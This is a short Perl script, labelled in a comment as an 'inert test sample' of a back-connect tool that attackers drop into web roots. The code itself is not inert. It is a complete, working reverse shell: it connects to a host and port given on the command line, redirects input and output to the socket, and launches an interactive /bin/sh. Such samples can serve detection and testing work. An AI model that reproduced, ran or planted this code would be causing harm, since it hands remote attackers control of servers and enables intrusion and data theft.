#!/usr/bin/perl
# inert test sample: a back-connect tool as file managers drop it into the web root and start it
# with "perl bc.pl HOST PORT"; it hands a shell to the address it is given
use Socket;
my ($host, $port) = @ARGV;
socket(SOCK, PF_INET, SOCK_STREAM, getprotobyname('tcp')) or die "socket: $!";
if (connect(SOCK, sockaddr_in($port, inet_aton($host)))) {
    open(STDIN, ">&SOCK");
    open(STDOUT, ">&SOCK");
    open(STDERR, ">&SOCK");
    exec('/bin/sh -i');
}
